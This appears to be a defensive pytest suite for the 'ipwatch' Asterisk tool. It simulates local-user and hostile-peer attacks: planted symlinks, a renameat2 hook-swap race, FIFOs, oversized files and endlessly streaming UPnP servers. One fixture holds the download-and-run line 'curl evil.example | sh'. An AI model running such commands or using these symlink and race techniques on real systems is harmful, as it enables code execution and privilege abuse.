"""Attacks by local users and hostile peers (issue #18), each through the real CLI where it can be.

The unit gives STATE_DIR to the asterisk user, who also owns /etc/asterisk; an admin runs ipwatch
as root beside it. These tests play that user with `nobody` (65534) and check that root's ipwatch
never writes, reads, truncates, deletes or runs anything that user could point it at.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import select
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.peers.stand_in import NAT_TRANSPORT as PJSIP
from tests.peers.stand_in import NEW_ADDRESS as NEW
from tests.peers.stand_in import OLD_ADDRESS as OLD
from tests.support import run_ipwatch, wait_until

REPOSITORY = Path(__file__).resolve().parents[2]
NOBODY = 65534
VICTIM_TEXT = "root's own file\n"


def need_root() -> None:
    if os.geteuid() != 0:
        pytest.skip("playing another local user needs root")


def give(path: Path, uid: int = NOBODY) -> Path:
    """Hand `path` to another user, as the unit hands the state directory to asterisk."""
    os.chown(path, uid, uid, follow_symlinks=False)
    return path


def victim(directory: Path, name: str = "victim") -> Path:
    """A root-owned file standing in for /etc/shadow or /root/.bashrc."""
    path = directory / name
    path.write_text(VICTIM_TEXT)
    path.chmod(0o600)
    return path


def apply_config(directory: Path, target: Path, extra: str = "") -> Path:
    config = directory / "ipwatch.toml"
    config.write_text(
        f'confirm = 1\naccept = ["198.51.100.0/24"]\n'
        f'[[source]]\nkind = "command"\nargv = ["echo", "{NEW}"]\n'
        f'[[target]]\nkind = "pjsip"\nfile = "{target}"\n'
        f'[hooks]\ndir = "{directory / "no-hooks"}"\n'
        f'[asterisk]\ncontrol = "none"\n{extra}'
    )
    config.chmod(0o600)
    return config


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[Path]:
    """tmp_path, traversable by `nobody` (pytest makes it root's alone)."""
    tmp_path.chmod(0o755)
    yield tmp_path


# --- 1. backups/ through a symlink ----------------------------------------------------------


def test_root_does_not_write_a_backup_through_a_link_the_state_dir_owner_planted(
    lab: Path,
) -> None:
    need_root()
    home = lab / "root-home"
    home.mkdir(mode=0o700)
    bashrc = victim(home, ".bashrc")
    etc = lab / "etc-asterisk"
    etc.mkdir()
    (etc / "pjsip.conf").write_text("#include .bashrc\n")
    (etc / ".bashrc").write_text("curl evil.example | sh\n" + PJSIP)
    state = lab / "state"
    state.mkdir()
    give(state)
    mirror = state / "backups" / str(etc.parent).lstrip("/")
    mirror.mkdir(parents=True)
    for directory in [mirror, *mirror.parents]:
        if directory == state:
            break
        give(directory)
    (mirror / "etc-asterisk").symlink_to(home)
    config = apply_config(lab, etc / "pjsip.conf")
    finished = run_ipwatch("check", "--apply", config=config, state_dir=state)
    assert bashrc.read_text() == VICTIM_TEXT
    assert sorted(os.listdir(home)) == [".bashrc"]
    assert f"external_media_address = {OLD}" in (etc / ".bashrc").read_text()
    assert finished.returncode == 78, finished.stderr
    name = pwd.getpwuid(NOBODY).pw_name
    assert finished.stderr.splitlines()[-1] == (
        f"ipwatch: {state}: owned by {name} (uid {NOBODY}), not root; root must not write where"
        f" another user can plant symlinks, so run ipwatch as that user (sudo -u {name} ipwatch"
        " ...) or pass --state-dir with a directory of root's"
    )


def test_a_symlink_inside_a_private_state_dir_is_not_followed(lab: Path) -> None:
    """Even where the directory is root's: a link left there is never walked through."""
    home = lab / "root-home"
    home.mkdir(mode=0o700)
    bashrc = victim(home, ".bashrc")
    etc = lab / "etc-asterisk"
    etc.mkdir()
    (etc / ".bashrc").write_text(PJSIP)
    (etc / "pjsip.conf").write_text("#include .bashrc\n")
    state = lab / "state"
    mirror = state / "backups" / str(etc.parent).lstrip("/")
    mirror.mkdir(parents=True)
    (mirror / "etc-asterisk").symlink_to(home)
    stale = home / ".ipwatch-.bashrc.k2j4h5.tmp"
    stale.write_text("not ipwatch's\n")
    os.utime(stale, (0, 0))
    config = apply_config(lab, etc / "pjsip.conf")
    finished = run_ipwatch("check", "--apply", config=config, state_dir=state)
    assert bashrc.read_text() == VICTIM_TEXT and stale.exists()
    assert finished.returncode == 3, finished.stderr
    where = mirror / "etc-asterisk"
    assert f"{where} is a symbolic link or not a directory" in finished.stderr
    assert f"external_media_address = {OLD}" in (etc / ".bashrc").read_text()


# --- 2. the lock file through a symlink -----------------------------------------------------


def test_run_does_not_truncate_what_a_planted_lock_symlink_points_to(lab: Path) -> None:
    shadow = victim(lab, "shadow")
    state = lab / "state"
    state.mkdir()
    (state / "ipwatch.lock").symlink_to(shadow)
    etc = lab / "etc"
    etc.mkdir()
    (etc / "pjsip.conf").write_text(PJSIP)
    config = apply_config(lab, etc / "pjsip.conf")
    daemon = subprocess.Popen(
        [sys.executable, "-m", "ipwatch", "-c", str(config), "--state-dir", str(state), "run"],
        cwd=REPOSITORY,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        wait_until(
            lambda: daemon.poll() is not None or shadow.read_text() != VICTIM_TEXT,
            30,
            "the daemon to exit or the victim file to change",
        )
    finally:
        if daemon.poll() is None:
            daemon.terminate()
        _, stderr = daemon.communicate(timeout=30)
    assert shadow.read_text() == VICTIM_TEXT
    assert daemon.returncode == 78
    lock = state / "ipwatch.lock"
    assert stderr == (
        f"ipwatch: {lock}: is a symbolic link; the lock must be a regular file of ipwatch's user"
        f" (uid {os.geteuid()}), so remove it (rm {lock}) and start ipwatch again\n"
    )


def test_a_lock_file_of_another_user_is_refused(lab: Path) -> None:
    need_root()
    from ipwatch.errors import StateError
    from ipwatch.instance import InstanceLock

    state = lab / "state"
    state.mkdir()
    lock = state / "ipwatch.lock"
    lock.write_text("")
    give(lock)
    with pytest.raises(StateError, match="owned by uid 65534"):
        InstanceLock.acquire(state)


# --- 7. a hostile state.json ----------------------------------------------------------------


# Short ids: the default ones hold the whole text, which pytest 7 (Debian 12) also puts into
# PYTEST_CURRENT_TEST, and an environment of over a megabyte cannot start `ipwatch status`.
@pytest.mark.parametrize(
    "text",
    ["[" * 100_000, '{"version": 1, "families": ' * 50_000],
    ids=["arrays", "objects"],
)
def test_a_deeply_nested_state_file_is_unknown(text: str, lab: Path) -> None:
    (lab / "state.json").write_text(text)
    finished = run_ipwatch("status", state_dir=lab)
    assert finished.returncode == 3, finished.stderr
    assert finished.stdout.startswith(f"IPWATCH UNKNOWN - {lab / 'state.json'}: ")
    assert "move it away" in finished.stdout


def test_a_huge_state_file_is_not_read(lab: Path) -> None:
    state = lab / "state.json"
    with state.open("wb") as file:
        file.truncate(300 * 1024 * 1024)  # sparse: costs no disk
    finished = run_ipwatch("status", state_dir=lab, wrapper=["prlimit", "--as=200000000"])
    assert finished.returncode == 3, finished.stderr
    assert finished.stdout == (
        f"IPWATCH UNKNOWN - {state}: is 300 MiB, far more than a state file ever holds"
        " (1 MiB); move it away and run `ipwatch check` again\n"
    )


@pytest.mark.parametrize("kind", ["fifo", "symlink"])
def test_a_state_file_that_is_no_regular_file_is_unknown(kind: str, lab: Path) -> None:
    state = lab / "state.json"
    if kind == "fifo":
        os.mkfifo(state)
    else:
        state.symlink_to(victim(lab))
    finished = run_ipwatch("status", state_dir=lab, timeout=20)
    assert finished.returncode == 3, finished.stderr
    assert finished.stdout.startswith(f"IPWATCH UNKNOWN - {state}: ")
    assert VICTIM_TEXT.strip() not in finished.stdout
    assert stat.S_IMODE(lab.stat().st_mode) == 0o755


@pytest.mark.parametrize(
    "state",
    [
        '{"version": 1, "families": ["ipv4"]}',
        '{"version": 1, "families": {"ipv4": {"address": "x", "sources": "abc"}}}',
        '{"version": 1, "families": {"ipv4": {"address": "x", "confirmed": true,'
        ' "sources": [{"latency_ms": "fast"}]}}}',
        '{"version": 1, "daemon": {"pid": "x"}}',
        '{"version": 1, "changes": [1]}',
    ],
)
@pytest.mark.parametrize("form", ["text", "json"])
def test_a_state_file_of_the_wrong_shape_is_unknown(state: str, form: str, lab: Path) -> None:
    (lab / "state.json").write_text(state)
    finished = run_ipwatch("status", *(["--json"] if form == "json" else []), state_dir=lab)
    assert (finished.returncode, finished.stderr) == (3, "")
    assert f"{lab / 'state.json'} is damaged; move it away" in finished.stdout


# --- 5. a FIFO, a device or a huge file as a config file ------------------------------------


def plan_config(directory: Path, target: Path) -> Path:
    return apply_config(directory, target)


def test_a_fifo_as_pjsip_conf_does_not_hang_plan(lab: Path) -> None:
    etc = lab / "etc"
    etc.mkdir()
    os.mkfifo(etc / "pjsip.conf")
    finished = run_ipwatch("plan", config=plan_config(lab, etc / "pjsip.conf"), timeout=20)
    assert (finished.returncode, finished.stderr) == (
        78,
        f"ipwatch: {etc / 'pjsip.conf'}: is a FIFO, not a regular file; point the target at"
        " Asterisk's real config file\n",
    )


def test_a_fifo_swapped_in_for_an_included_file_does_not_hang_plan(
    lab: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An include that is a FIFO by the time it is read, though isfile() saw a regular file."""
    from ipwatch.asterisk import conf
    from ipwatch.errors import ConfFileError

    etc = lab / "etc"
    etc.mkdir()
    (etc / "pjsip.conf").write_text("#include transports.conf\n")
    os.mkfifo(etc / "transports.conf")
    monkeypatch.setattr(os.path, "isfile", lambda name: True)

    def hung(signal_number: int, frame: object) -> None:
        raise TimeoutError("load_tree blocked on the FIFO")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(10)
    try:
        with pytest.raises(ConfFileError, match=r"transports\.conf: is a FIFO, not a regular file"):
            conf.load_tree(etc / "pjsip.conf")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def test_dev_zero_as_pjsip_conf_does_not_exhaust_memory(lab: Path) -> None:
    config = plan_config(lab, Path("/dev/zero"))
    finished = run_ipwatch("plan", config=config, wrapper=["prlimit", "--as=1000000000"])
    assert (finished.returncode, finished.stderr) == (
        78,
        "ipwatch: /dev/zero: is a character device, not a regular file; point the target at"
        " Asterisk's real config file\n",
    )


def test_a_huge_pjsip_conf_is_refused_before_it_is_read(lab: Path) -> None:
    etc = lab / "etc"
    etc.mkdir()
    with (etc / "pjsip.conf").open("wb") as file:
        file.write(PJSIP.encode())
        file.truncate(200 * 1024 * 1024)  # sparse
    config = plan_config(lab, etc / "pjsip.conf")
    finished = run_ipwatch("plan", config=config, wrapper=["prlimit", "--as=400000000"])
    assert (finished.returncode, finished.stderr) == (
        78,
        f"ipwatch: {etc / 'pjsip.conf'}: is 200 MiB, more than the 16 MiB ipwatch reads from one"
        " config file; check that the target names the right file\n",
    )


# --- 6. include fan-out ---------------------------------------------------------------------


def test_diamond_includes_are_bounded_with_the_chain_named(lab: Path) -> None:
    etc = lab / "etc"
    etc.mkdir()
    width, depth = 4, 10
    for level in range(depth):
        for index in range(width):
            below = (
                "".join(f"#include l{level + 1}-{i}.conf\n" for i in range(width))
                if level + 1 < depth
                else ""
            )
            (etc / f"l{level}-{index}.conf").write_text(f"; level {level}\n{below}")
    (etc / "pjsip.conf").write_text(PJSIP + "".join(f"#include l0-{i}.conf\n" for i in range(4)))
    finished = run_ipwatch("plan", config=plan_config(lab, etc / "pjsip.conf"), timeout=20)
    assert finished.returncode == 78, finished.stderr
    chain = f"{etc / 'pjsip.conf'} line 9 -> l0-0.conf line 2 -> l1-0.conf line 2 -> "
    assert finished.stderr.startswith(f"ipwatch: {chain}"), finished.stderr
    assert finished.stderr.endswith(
        ": these includes read more than 1000 files (Asterisk reads a file again each time it is"
        " included); include each file once\n"
    )


def test_a_file_included_twice_is_still_read_twice(lab: Path) -> None:
    """Asterisk reads it again at each #include, into the section current there."""
    from ipwatch.asterisk.conf import load_tree

    (lab / "media.conf").write_text(f"external_media_address = {OLD}\n")
    (lab / "pjsip.conf").write_text("[one]\n#include media.conf\n[two]\n#include media.conf\n")
    found = load_tree(lab / "pjsip.conf").find("external_media_address")
    assert [option.section.name for option in found if option.section] == ["one", "two"]


# --- a hook swapped between the check and the exec ------------------------------------------

# The other user, exchanging two names for ever. The directory is opened before giving up root,
# because pytest's own directories are closed to other users.
SWAPPER = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
directory = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
one, other = (os.fsencode(name) for name in sys.argv[2:4])
RENAME_EXCHANGE = 2
os.setgid(65534)
os.setuid(65534)
assert libc.renameat2(directory, one, directory, other, RENAME_EXCHANGE) == 0
print("ready", flush=True)
while True:
    libc.renameat2(directory, one, directory, other, RENAME_EXCHANGE)
"""


def test_a_hook_in_a_directory_another_user_owns_cannot_be_swapped_for_theirs(lab: Path) -> None:
    need_root()
    from ipwatch.config import HooksConfig
    from ipwatch.hooks import run_hooks, synthetic_event

    theirs = lab / "asterisk-owned"
    theirs.mkdir()
    give(theirs)
    evidence = lab / "ran-as-root"
    benign = theirs / "hook"
    benign.write_text("#!/bin/sh\nexit 0\n")
    benign.chmod(0o755)
    evil = theirs / "evil"
    evil.write_text(f"#!/bin/sh\necho pwned >{evidence}\n")
    evil.chmod(0o755)
    give(evil)
    hooks = lab / "hooks.d"
    hooks.mkdir()
    (hooks / "10-hook").symlink_to(benign)
    swapper = subprocess.Popen(
        [sys.executable, "-c", SWAPPER, str(theirs), "hook", "evil"],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert swapper.stdout is not None and swapper.stdout.readline() == "ready\n"
        results = []
        for _ in range(300):
            results += run_hooks(HooksConfig(str(hooks), 5.0), synthetic_event("test"), "x")
            if evidence.exists():
                break
    finally:
        swapper.kill()
        swapper.wait()
        assert swapper.stdout is not None
        swapper.stdout.close()
    assert not evidence.exists(), "the other user's script ran as root"
    reason = (
        f"directory {theirs} is owned by uid {NOBODY}, not root or ipwatch's user, who could swap"
        " the hook there; keep hooks, and the links to them, in directories only root can change"
    )
    assert {(result.status, result.reason) for result in results} == {("refused", reason)}


def test_a_hook_is_run_as_the_file_that_was_checked(lab: Path) -> None:
    """A hook whose directories are all safe runs; it starts in hooks.dir and gets its event."""
    from ipwatch.config import HooksConfig
    from ipwatch.hooks import run_hooks, synthetic_event

    hooks = lab / "hooks.d"
    hooks.mkdir()
    log = lab / "log"
    (hooks / "10-hook").write_text(f'#!/bin/sh\necho "$1 $(pwd)" >{log}\n')
    (hooks / "10-hook").chmod(0o755)
    results = run_hooks(HooksConfig(str(hooks), 5.0), synthetic_event("test"), "x")
    assert [(result.name, result.status) for result in results] == [("10-hook", "ok")]
    assert log.read_text() == f"test {hooks}\n"


# --- 3. a hostile UPnP device ---------------------------------------------------------------

MIB = 1024 * 1024
HEADROOM = 64 * MIB  # what the issue allows above idle, whatever the peer sends


class HostileDevice:
    """An HTTP server on loopback whose rootDesc.xml never ends: sent as fast as it is read, or a
    byte a second. Counts the connections open at once (a new exchange must not start while an
    old one still reads)."""

    def __init__(self, pace: float) -> None:
        self.pace = pace
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.stop = threading.Event()
        self.lock = threading.Lock()
        self.open = 0
        self.most_open = 0
        self.connections = 0
        self.threads: list[threading.Thread] = []
        self.acceptor = threading.Thread(target=self._accept, daemon=True)
        self.acceptor.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/rootDesc.xml"

    def close(self) -> None:
        self.stop.set()
        self.listener.close()
        for thread in [self.acceptor, *self.threads]:
            thread.join(timeout=10)

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            thread = threading.Thread(target=self._serve, args=(connection,), daemon=True)
            self.threads.append(thread)
            thread.start()

    def _serve(self, connection: socket.socket) -> None:
        with connection:
            # Only miniupnpc's exchanges count (a daemon's push channel fetches the description
            # too, with a client of its own).
            if b"MiniUPnPc" in connection.recv(65536):
                self._stream(connection)

    def _stream(self, connection: socket.socket) -> None:
        with self.lock:
            self.open += 1
            self.connections += 1
            self.most_open = max(self.most_open, self.open)
        try:
            connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n<root>")
            chunk = b"<x/>" * 16384 if not self.pace else b"x"
            while not self.stop.is_set():
                # Waiting on the socket, so a client gone is noticed at once.
                ready = select.select([connection], [], [], self.pace)[0]
                if ready and not connection.recv(65536):
                    return
                connection.sendall(chunk)
        except OSError:
            pass  # the client went away: what a bounded client does
        finally:
            with self.lock:
                self.open -= 1


@pytest.fixture(params=[0.0, 1.0], ids=["endless", "byte-a-second"])
def hostile_device(request: pytest.FixtureRequest) -> Iterator[HostileDevice]:
    device = HostileDevice(request.param)
    yield device
    device.close()


def tree_rss(root: int) -> int:
    """The resident memory of process `root` and all its descendants, in bytes."""
    children: dict[int, list[int]] = {}
    rss: dict[int, int] = {}
    page = os.sysconf("SC_PAGE_SIZE")
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as file:
                fields = file.read().rpartition(b")")[2].split()
        except OSError:
            continue
        children.setdefault(int(fields[1]), []).append(int(entry))
        rss[int(entry)] = int(fields[21]) * page
    total, pending = 0, [root]
    while pending:
        pid = pending.pop()
        total += rss.get(pid, 0)
        pending += children.get(pid, [])
    return total


def peak_rss(process: subprocess.Popen[str], seconds: float, ceiling: int) -> int:
    """Sample the tree's memory every 10 ms for `seconds` (or until it exits); kill the tree at
    `ceiling`, so that an unbounded client cannot take the machine down with it."""
    peak = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and process.poll() is None:
        peak = max(peak, tree_rss(process.pid))
        if peak > ceiling:
            os.killpg(process.pid, signal.SIGKILL)
            break
        time.sleep(0.01)  # a sampling period, not a synchronisation
    return peak


def upnp_config(directory: Path, url: str, extra: str = "") -> Path:
    config = directory / "ipwatch.toml"
    config.write_text(
        f'{extra}[[source]]\nkind = "upnp"\nurl = "{url}"\ntimeout = "2s"\n'
        f'[hooks]\ndir = "{directory / "no-hooks"}"\n[asterisk]\ncontrol = "none"\n'
    )
    config.chmod(0o600)
    return config


def start(config: Path, state: Path, *command: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "ipwatch", "-c", str(config), "--state-dir", str(state), *command],
        cwd=REPOSITORY,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,  # a group of its own, so the whole tree can be killed
    )


def idle_rss(lab: Path) -> int:
    """The tree's peak running `sources` against a device that answers nothing at all."""
    silent = socket.create_server(("127.0.0.1", 0))
    try:
        url = f"http://127.0.0.1:{silent.getsockname()[1]}/rootDesc.xml"
        silent.close()  # refused: the exchange fails at once
        process = start(upnp_config(lab, url), lab / "state", "sources")
        peak = peak_rss(process, 30, 1024 * MIB)
        process.communicate(timeout=30)
    finally:
        silent.close()
    return peak


def test_sources_stays_small_whatever_a_upnp_device_sends(
    lab: Path, hostile_device: HostileDevice
) -> None:
    idle = idle_rss(lab)
    process = start(upnp_config(lab, hostile_device.url), lab / "state", "sources", "--json")
    peak = peak_rss(process, 30, idle + 8 * HEADROOM)
    stdout, _ = process.communicate(timeout=30)
    print(f"ipwatch sources: idle {idle / MIB:.1f} MiB, hostile peak {peak / MIB:.1f} MiB")
    assert peak - idle < HEADROOM, f"{(peak - idle) / MIB:.0f} MiB above idle"
    assert process.returncode == 2
    (answer,) = json.loads(stdout)["ipv4"]
    assert answer["error"] in (
        f"no UPnP answer within 2s (still reading the device description at {hostile_device.url})",
        # miniupnpc's word for an answer it could not hold within the worker's memory cap
        f"no UPnP gateway description at {hostile_device.url} (No UPnP device discovered); check"
        " `url` and that UPnP is enabled on the router",
    )


def test_the_daemon_neither_grows_nor_piles_up_exchanges(
    lab: Path, hostile_device: HostileDevice
) -> None:
    idle = idle_rss(lab)
    config = upnp_config(lab, hostile_device.url, 'interval = "1s"\nfast_confirm = "1s"\n')
    daemon = start(config, lab / "state", "run")
    try:
        peak = peak_rss(daemon, 12, idle + 8 * HEADROOM)
        threads = len(os.listdir(f"/proc/{daemon.pid}/task"))
        peak = max(peak, peak_rss(daemon, 6, idle + 8 * HEADROOM))
        assert len(os.listdir(f"/proc/{daemon.pid}/task")) <= threads  # no thread per round
    finally:
        if daemon.poll() is None:
            os.killpg(daemon.pid, signal.SIGTERM)
        daemon.communicate(timeout=30)
    print(f"ipwatch run: idle {idle / MIB:.1f} MiB, hostile peak {peak / MIB:.1f} MiB")
    assert peak - idle < HEADROOM, f"{(peak - idle) / MIB:.0f} MiB above idle"
    assert hostile_device.connections >= 3  # several rounds asked
    assert hostile_device.most_open == 1


# --- includes outside Asterisk's config directory -------------------------------------------


def outside_include(lab: Path) -> tuple[Path, Path]:
    """Asterisk's directory, the asterisk user's (nobody's), whose pjsip.conf includes a file
    of root's elsewhere; return the top file and root's file."""
    etc = lab / "etc-asterisk"
    etc.mkdir()
    private = lab / "root-only"
    private.mkdir(mode=0o700)
    theirs = private / "transports.conf"
    theirs.write_text(PJSIP)
    theirs.chmod(0o600)
    top = etc / "pjsip.conf"
    top.write_text(f"[global]\ntype = global\n#include {theirs}\n")
    for path in (etc, top):
        give(path)
    return top, theirs


def test_root_does_not_edit_an_included_file_the_asterisk_user_could_not(lab: Path) -> None:
    need_root()
    from ipwatch.asterisk.conf import load_tree
    from ipwatch.errors import ConfFileError

    top, theirs = outside_include(lab)
    name = pwd.getpwuid(NOBODY).pw_name
    with pytest.raises(ConfFileError) as refused:
        load_tree(top, asterisk_user=name)
    assert str(refused.value) == (
        f"{top} line 3: {theirs} is outside {top.parent} and {name} (asterisk.user) cannot read"
        f" and write it, so root will not edit it on Asterisk's behalf; move it into"
        f" {top.parent} or let {name} read and write it"
    )
    assert refused.value.exit_status == 78
    # What the asterisk user may read and write, inside the directory or out, is still followed.
    give(theirs)
    assert theirs in load_tree(top, asterisk_user=name).documents
    theirs.rename(top.parent / "transports.conf")
    top.write_text("#include transports.conf\n")
    os.chown(top.parent / "transports.conf", 0, 0)
    assert top.parent / "transports.conf" in load_tree(top, asterisk_user=name).documents


def test_an_asterisk_user_that_does_not_exist_is_named(lab: Path) -> None:
    need_root()
    from ipwatch.asterisk.conf import load_tree
    from ipwatch.errors import ConfFileError

    top, _ = outside_include(lab)
    with pytest.raises(ConfFileError, match=r"asterisk\.user 'no-such-user' is no user here"):
        load_tree(top, asterisk_user="no-such-user")


def test_a_upnp_worker_that_ended_between_rounds_is_replaced() -> None:
    from ipwatch.errors import SourceError
    from ipwatch.sources import upnp

    closed = socket.create_server(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # connections are refused: an answer at once
    options = upnp.Options(url=f"http://127.0.0.1:{port}/rootDesc.xml")
    try:
        for _ in range(2):
            with pytest.raises(SourceError, match=r"^no UPnP gateway description at"):
                upnp.ask(options, "ipv4", 10)
            worker = upnp._workers[options].process
            worker.kill()  # as its memory cap or the OOM killer would
            worker.wait()
    finally:
        upnp._stop_all()
    assert options not in upnp._workers


def test_a_file_swapped_for_a_link_between_plan_and_apply_is_not_written(lab: Path) -> None:
    """Even with the same content, a link put in place of a file read leads no write elsewhere."""
    from ipwatch.asterisk.conf import load_tree
    from ipwatch.config import TargetConfig
    from ipwatch.errors import ApplyError
    from ipwatch.files import apply_changes
    from ipwatch.plan import Loaded, make_plan

    etc = lab / "etc"
    etc.mkdir()
    (etc / "pjsip.conf").write_text(PJSIP)
    roots = victim(lab, "roots.conf")
    roots.write_text(PJSIP)
    target = TargetConfig(kind="pjsip", file=str(etc / "pjsip.conf"))
    plan = make_plan([Loaded(target, load_tree(etc / "pjsip.conf"), None)], {"ipv4": NEW})
    (etc / "pjsip.conf").unlink()
    (etc / "pjsip.conf").symlink_to(roots)
    with pytest.raises(ApplyError, match="is no longer the file that was read; run again"):
        apply_changes(plan.changes, lab / "state" / "backups")
    assert roots.read_text() == PJSIP


def test_a_fifo_put_in_place_of_a_file_between_plan_and_apply_does_not_hang(lab: Path) -> None:
    from ipwatch.asterisk.conf import load_tree
    from ipwatch.config import TargetConfig
    from ipwatch.errors import ApplyError
    from ipwatch.files import apply_changes
    from ipwatch.plan import Loaded, make_plan

    etc = lab / "etc"
    etc.mkdir()
    (etc / "pjsip.conf").write_text(PJSIP)
    target = TargetConfig(kind="pjsip", file=str(etc / "pjsip.conf"))
    plan = make_plan([Loaded(target, load_tree(etc / "pjsip.conf"), None)], {"ipv4": NEW})
    (etc / "pjsip.conf").unlink()
    os.mkfifo(etc / "pjsip.conf")

    def hung(signal_number: int, frame: object) -> None:
        raise TimeoutError("apply blocked on the FIFO")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(10)
    try:
        with pytest.raises(ApplyError, match=r"pjsip\.conf is a FIFO, not a regular file now"):
            apply_changes(plan.changes, lab / "state" / "backups")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize(
    ("mode", "refused"), [(0o1777, False), (0o777, True), (0o775, True), (0o755, False)]
)
def test_a_directory_on_the_way_to_a_hook_must_not_be_writable_by_others(
    mode: int, refused: bool, lab: Path
) -> None:
    """A sticky directory, such as /tmp, is fine: others cannot rename what they do not own."""
    from ipwatch.config import HooksConfig
    from ipwatch.hooks import run_hooks, synthetic_event

    shared = lab / "shared"
    shared.mkdir()
    shared.chmod(mode)
    hook = shared / "hook"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    hooks = lab / "hooks.d"
    hooks.mkdir()
    (hooks / "10-hook").symlink_to(hook)
    (result,) = run_hooks(HooksConfig(str(hooks), 5.0), synthetic_event("test"), "x")
    if refused:
        assert (result.status, result.reason) == (
            "refused",
            f"directory {shared} is writable by group or others; chmod go-w {shared}",
        )
    else:
        assert result.status == "ok", result.reason


def test_a_directory_of_another_user_inside_the_state_dir_is_not_entered(lab: Path) -> None:
    need_root()
    from ipwatch.errors import ApplyError
    from ipwatch.files import FileChange, apply_changes

    etc = lab / "etc"
    etc.mkdir()
    (etc / "pjsip.conf").write_text(PJSIP)
    state = lab / "state"
    backups = state / "backups"
    backups.mkdir(parents=True)
    give(backups)
    change = FileChange(etc / "pjsip.conf", PJSIP.encode(), PJSIP.replace(OLD, NEW).encode())
    with pytest.raises(ApplyError) as refused:
        apply_changes([change], backups)
    name = pwd.getpwuid(NOBODY).pw_name
    assert str(refused.value) == (
        f"{backups} belongs to {name} (uid {NOBODY}), so someone else could plant links in it;"
        f" remove it (rm -r {backups}) and run again; no file was changed"
    )
    assert (etc / "pjsip.conf").read_text() == PJSIP


def test_check_apply_as_root_leaves_an_included_file_the_asterisk_user_could_not_edit(
    lab: Path,
) -> None:
    need_root()
    top, theirs = outside_include(lab)
    name = pwd.getpwuid(NOBODY).pw_name
    config = apply_config(lab, top, f'user = "{name}"\n')
    finished = run_ipwatch("check", "--apply", config=config, state_dir=lab / "state")
    assert finished.returncode == 78, finished.stderr
    assert f"{theirs} is outside {top.parent} and {name} (asterisk.user) cannot" in finished.stderr
    assert theirs.read_text() == PJSIP


def test_root_refuses_another_users_state_dir_before_announcing_anything(lab: Path) -> None:
    """The refusal comes first: no hook hears `change`, no file is written, one error line."""
    need_root()
    etc = lab / "etc-asterisk"
    etc.mkdir()
    (etc / "pjsip.conf").write_text(PJSIP)
    (lab / "state").mkdir()
    state = give(lab / "state")
    hooks = lab / "hooks.d"
    hooks.mkdir()
    hook = hooks / "10-record"
    hook.write_text(f'#!/bin/sh\necho "$1" >> "{lab / "heard"}"\n')
    hook.chmod(0o755)
    config = apply_config(lab, etc / "pjsip.conf")
    config.write_text(config.read_text().replace(str(lab / "no-hooks"), str(hooks)))
    before = (etc / "pjsip.conf").read_bytes()
    finished = run_ipwatch("check", "--apply", config=config, state_dir=state)
    assert finished.returncode == 78, finished.stderr
    assert not (lab / "heard").exists()
    assert (etc / "pjsip.conf").read_bytes() == before
    errors = [line for line in finished.stderr.splitlines() if "owned by" in line]
    assert len(errors) == 1, finished.stderr


def test_a_router_that_trickles_its_answer_cannot_hold_the_event_channel(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A byte every 0.2 s never trips a per-read timeout; the exchange's deadline ends it."""
    from ipwatch.sources import push, upnp_events

    monkeypatch.setattr(upnp_events, "EXCHANGE_DEADLINE", 1.0)
    server = socket.create_server(("127.0.0.1", 0))
    stop = threading.Event()

    def trickle() -> None:
        connection, _ = server.accept()
        with connection:
            connection.recv(4096)
            for byte in b"HTTP/1.1 200 OK\r\n" + b"X" * 10_000:
                if stop.wait(0.2):
                    return
                with contextlib.suppress(OSError):
                    connection.sendall(bytes([byte]))

    thread = threading.Thread(target=trickle, daemon=True)
    thread.start()
    began = time.monotonic()
    try:
        with pytest.raises(push.ChannelError, match=r"did not finish answering within 1 s"):
            upnp_events._fetch(f"http://127.0.0.1:{server.getsockname()[1]}/rootDesc.xml", 65536)
        assert time.monotonic() - began < 3.0
    finally:
        stop.set()
        server.close()
        thread.join(timeout=5)
